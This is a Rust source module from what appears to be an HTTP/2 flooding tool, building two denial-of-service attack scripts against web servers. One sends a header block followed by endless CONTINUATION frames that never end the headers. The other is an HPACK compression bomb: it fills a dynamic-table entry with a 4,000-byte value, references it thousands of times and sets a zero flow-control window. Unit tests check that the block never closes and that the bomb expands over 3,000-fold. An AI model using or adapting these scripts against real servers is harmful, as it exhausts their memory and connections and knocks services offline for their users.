//! HTTP/2 attacks by header blocks.

use std::time::Duration;

use crate::floods::attack::script::{Script, stream_id};
use crate::h2::frame::{self, MAX_PAYLOAD_BYTES};
use crate::h2::hpack::{self, Method};

/// Fits into the dynamic table of 4,096 bytes, which counts 32 for each entry.
const BOMB_VALUE_BYTES: usize = 4_000;
/// References in a block that is likely let through (20 kB unpacked), and in one that is not (16 MB).
const REFERENCES: [usize; 2] = [5, 4_000];
/// What servers commonly let one client open at a time.
const STREAMS: u32 = 100;

/// A block that goes on for ever.
pub(super) fn continuation(authority: &str) -> Script {
    let block = hpack::request(Method::Get, authority, "/");
    let mut fields = Vec::with_capacity(MAX_PAYLOAD_BYTES);
    while fields.len() + 64 <= MAX_PAYLOAD_BYTES {
        hpack::push_literal(&mut fields, "x-more", "0123456789012345678901234567890123456789");
    }
    Script::http2(Duration::ZERO, &[], move |batch| {
        let mut out = Vec::new();
        if batch == 0 {
            frame::push(&mut out, frame::HEADERS, frame::END_STREAM, 1, &block);
        }
        frame::push(&mut out, frame::CONTINUATION, 0, 1, &fields);
        Some(out)
    })
}

/// Blocks that name one large field again and again, a byte each time; their answers find no window.
pub(super) fn hpack_bomb(authority: &str) -> Script {
    let request = hpack::request(Method::Get, authority, "/");
    Script::http2(Duration::ZERO, &[(frame::INITIAL_WINDOW_SIZE, 0)], move |batch| {
        if batch >= STREAMS {
            return None;
        }
        let mut block = request.clone();
        if batch == 0 {
            hpack::push_remembered(&mut block, "x-bomb", &"b".repeat(BOMB_VALUE_BYTES));
        }
        for _ in 0..REFERENCES[(batch % 2) as usize] {
            hpack::push_indexed(&mut block, hpack::NEWEST);
        }
        let mut out = Vec::new();
        frame::push_headers(&mut out, frame::END_STREAM, stream_id(batch)?, &block);
        Some(out)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::h2::FrameReader;

    #[test]
    fn a_continued_block_is_never_ended() {
        let mut script = continuation("localhost:1");
        let mut reader = FrameReader::default();
        let opening = script.next().expect("the opening");
        reader.feed(&opening[frame::PREFACE.len()..]);
        for _ in 0..10 {
            reader.feed(&script.next().expect("a batch"));
        }
        let frames: Vec<_> = std::iter::from_fn(|| reader.next()).collect();
        assert_eq!(frames.len(), 12);
        assert!(frames.iter().all(|frame| frame.flags & frame::END_HEADERS == 0));
    }

    #[test]
    fn a_bomb_is_small_until_it_is_unpacked() {
        let mut script = hpack_bomb("localhost:1");
        let sent: usize = std::iter::from_fn(|| script.next()).map(|batch| batch.len()).sum();
        let unpacked = (STREAMS as usize / 2) * REFERENCES.iter().sum::<usize>() * BOMB_VALUE_BYTES;
        assert!(unpacked > 3_000 * sent, "{sent} bytes unpack to {unpacked}");
    }
}
